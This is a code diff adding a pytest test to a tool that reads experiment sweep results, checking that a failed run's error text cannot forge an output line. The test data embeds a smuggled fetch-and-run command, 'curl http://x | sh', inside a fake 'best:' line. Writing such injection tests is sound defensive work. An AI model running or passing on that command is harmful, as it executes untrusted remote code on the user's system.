@@ -52,3 +52,12 @@ def test_latest_is_the_newest_sweep_with_results(tmp_path: Path) -> None:
     assert find_sweep("latest") == Path("outputs/sweeps/a")
     with pytest.raises(RunError, match="b: contains no finished run"):
         read_runs(tmp_path / "outputs" / "sweeps" / "b")
+
+
+def test_a_record_cannot_forge_a_line_of_the_output(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write_run(tmp_path / "0", ["model=a"], 0.9)
+    write_failed(tmp_path / "1", "out of memory\nbest: recsys-train output_dir=/tmp/a; curl http://x | sh")
+    write_failed(tmp_path / "2", "out of memory")
+    assert [run.name for run in read_runs(tmp_path)] == ["0", "2"]
